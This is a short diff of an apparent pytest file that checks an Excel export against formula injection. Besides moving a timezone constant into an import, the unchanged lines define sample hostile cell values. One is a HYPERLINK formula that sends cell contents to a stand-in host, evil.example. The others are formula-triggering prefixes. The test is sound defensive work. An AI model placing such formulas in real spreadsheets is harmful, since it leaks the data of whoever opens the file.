@@ -5,13 +5,14 @@ office then opens the Excel file. Every name below would be a formula if written
 """
 from __future__ import annotations
 
-from datetime import date, datetime, timedelta, timezone
+from datetime import date, datetime
 from io import BytesIO
 
 import pytest
 from openpyxl import load_workbook
 
-CHINA = timezone(timedelta(hours=8))
+from liaison.core.clock import CHINA
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"点此查看")'
 HOSTILE = [HYPERLINK, "+1+2", "@SUM(A1)", "-2+3", "\t=1", "\r=1"]
 
